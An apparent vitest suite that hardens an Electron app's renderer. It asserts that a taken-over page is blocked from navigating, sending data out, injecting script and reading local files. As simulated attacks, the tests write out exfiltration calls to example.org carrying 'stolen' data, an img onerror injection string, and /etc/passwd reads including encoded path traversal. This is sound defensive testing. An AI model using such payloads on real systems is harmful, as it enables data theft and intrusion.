/** What the page of the window can reach and what it cannot, with arbitrary script in it. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { callFromPage, place, program, withSharedProgram } from '../../../support/electron-stand-in/with-program.ts';

describe('a page that was taken over', () => {
  withSharedProgram();

  const goTo = async (url: string): Promise<void> => {
    const page = await program.page();
    const denied = new Promise<void>((resolve) =>
      program.window().webContents.once('will-frame-navigate', () => resolve()),
    );
    await page.evaluate(`{ location.href = ${JSON.stringify(url)}; }`);
    await denied;
    await page.evaluate('1');
  };

  test('cannot go elsewhere', async () => {
    await goTo('https://example.org/?stolen');
    expect(program.window().webContents.mainFrame.url).toBe('app://indexsmith/index.html');
    expect(program.desk.foreignRequests).toEqual([]);
    expect(program.desk.openedExternally).toEqual([]);
  });

  test('cannot reach the network', async () => {
    const page = await program.page();
    const outcomes = await page.evaluate(`Promise.all([
      fetch('https://example.org/').then(() => 'sent', () => 'refused'),
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('sent');
        image.onerror = () => resolve('refused');
        image.src = 'https://example.org/pixel.png?stolen';
      }),
      new Promise((resolve) => {
        const socket = new WebSocket('wss://example.org/');
        socket.onopen = () => resolve('sent');
        socket.onerror = () => resolve('refused');
      }),
      Promise.resolve(navigator.sendBeacon('https://example.org/', 'stolen')).then((sent) => (sent ? 'queued' : 'refused')),
    ])`);
    expect(outcomes).toEqual(['refused', 'refused', 'refused', expect.any(String)]);
    expect(program.desk.foreignRequests).toEqual([]);
  });

  test('cannot run text as script', async () => {
    const page = await program.page();
    const [inline, handler] = (await page.evaluate(`{
      const script = document.createElement('script');
      try { script.text = 'window.ran = true'; document.body.append(script); } catch {}
      const attempts = [window.ran === undefined];
      try { document.body.innerHTML = '<img src="x" onerror="window.ran = true">'; } catch { attempts.push(true); }
      attempts
    }`)) as boolean[];
    expect({ inline, handler }).toEqual({ inline: true, handler: true });
  });

  test('cannot embed or open a page, nor have one opened that the program does not name', async () => {
    const page = await program.page();
    await page.evaluate(`{
      const frame = document.createElement('iframe');
      frame.src = 'https://example.org/';
      document.body.append(frame);
      undefined;
    }`);
    for (const url of [
      'https://example.org/',
      'about:blank',
      'app://indexsmith/index.html',
      'https://doi.org/10.1/x?y=1',
    ]) {
      await page.evaluate(`{ window.open(${JSON.stringify(url)}); }`);
    }
    const openLink = (name: unknown): Promise<unknown> =>
      page.evaluate(`window.indexsmith.openLink(${JSON.stringify(name)})`);
    for (const name of ['https://doi.org/', 'constructor', '', null, { charts: 1 }]) {
      expect(await openLink(name)).toMatchObject({ ok: false, error: { code: 'not-found' } });
    }
    expect(program.desk.openedExternally).toEqual([]);
    expect(await openLink('charts')).toEqual({ ok: true, value: null });
    expect(program.desk.openedExternally).toEqual(['https://www.tradingview.com/']);
    expect(program.window().webContents.webRtcPolicy).toBe('disable_non_proxied_udp');
    await expect.poll(() => page.context().pages().length).toBe(1);
    expect(program.desk.foreignRequests).toEqual([]);
  });

  test('cannot have a page within it, nor be sent on', async () => {
    const { webContents: contents } = program.window();
    const prevented: string[] = [];
    for (const event of ['will-attach-webview', 'will-redirect']) {
      contents.emit(event, { url: 'https://example.org/', preventDefault: () => prevented.push(event) });
    }
    expect(prevented).toEqual(['will-attach-webview', 'will-redirect']);
  });

  test('is given no permission', async () => {
    const page = await program.page();
    const states = await page.evaluate(
      `Promise.all(['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read'].map((name) =>
        navigator.permissions.query({ name }).then(({ state }) => state)))`,
    );
    expect(states).toEqual(Array(6).fill('denied'));
  });

  test('cannot read a file that the user did not hand over', async () => {
    const page = await program.page();
    const forged = `window.indexsmith.offerFiles([new File(['a,b'], '/etc/passwd')]).then(() => 'given', ({ message }) => message)`;
    expect(await page.evaluate(forged)).toContain('lies nowhere on this machine');
    const path = `window.indexsmith.offerFiles(['/etc/passwd']).then(() => 'given', ({ message }) => message)`;
    expect(await page.evaluate(path)).not.toBe('given');
    expect(await page.evaluate(`fetch('file:///etc/passwd').then(() => 'read', () => 'refused')`)).toBe('refused');
    const climbing = `fetch('/..%2f..%2f..%2f..%2fetc/passwd').then(({ status }) => status)`;
    expect(await page.evaluate(climbing)).toBe(404);
  });
});

describe('files of the user', () => {
  withSharedProgram();

  const CANDLES = ['date,asset,open,high,low,close,volume,market_cap', '2020-01-01,BTC,1,2,1,2,5,'].join('\n');

  test('are imported once they were dropped', async () => {
    const page = await program.page();
    const file = join(place.rendererFolder, 'candles.csv');
    writeFileSync(file, CANDLES);
    await page.evaluate(`{
      const input = document.createElement('input');
      input.type = 'file';
      document.body.append(input);
      undefined;
    }`);
    await page.setInputFiles('input', file);
    const handles = (await page.evaluate(
      `window.indexsmith.offerFiles([...document.querySelector('input').files])`,
    )) as string[];
    expect(handles).toEqual([expect.stringMatching(/^grant:/)]);
    const answer = await callFromPage(1, 'imports.run', { paths: handles });
    expect(answer).toMatchObject({ ok: true, value: { inserted: 1, files: [{ file: 'candles.csv' }] } });
    expect(JSON.stringify(answer)).not.toContain(place.rendererFolder);
  });

  test('are imported once they were chosen, and not if the user thought better of it', async () => {
    const page = await program.page();
    const folder = join(place.rendererFolder, 'data');
    mkdirSync(folder);
    const { desk } = program;
    desk.messageChoices.push({ response: 0, checkboxChecked: false }, { response: 2, checkboxChecked: false });
    desk.fileChoices.push({ canceled: false, filePaths: [folder] });
    expect(await page.evaluate('window.indexsmith.chooseFiles()')).toEqual([
      { handle: expect.stringMatching(/^grant:/), name: 'data' },
    ]);
    expect(await page.evaluate('window.indexsmith.chooseFiles()')).toEqual([]);
  });

  test('a report opens in the browser of the system, by the id of its backtest alone', async () => {
    const page = await program.page();
    const open = (id: string): Promise<unknown> => page.evaluate(`window.indexsmith.openReport(${JSON.stringify(id)})`);
    mkdirSync(join(place.home, 'reports'));
    writeFileSync(join(place.home, 'reports', 'abcdef012345.html'), '');
    writeFileSync(join(place.home, 'secret.html'), '');
    expect(await open('abcdef0123456789')).toEqual({ ok: true, value: null });
    expect(await open('abcdef012346')).toMatchObject({ ok: false, error: { code: 'not-found' } });
    expect(await open('../secret')).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    expect(program.desk.openedPaths).toEqual([join(place.home, 'reports', 'abcdef012345.html')]);
  });
});
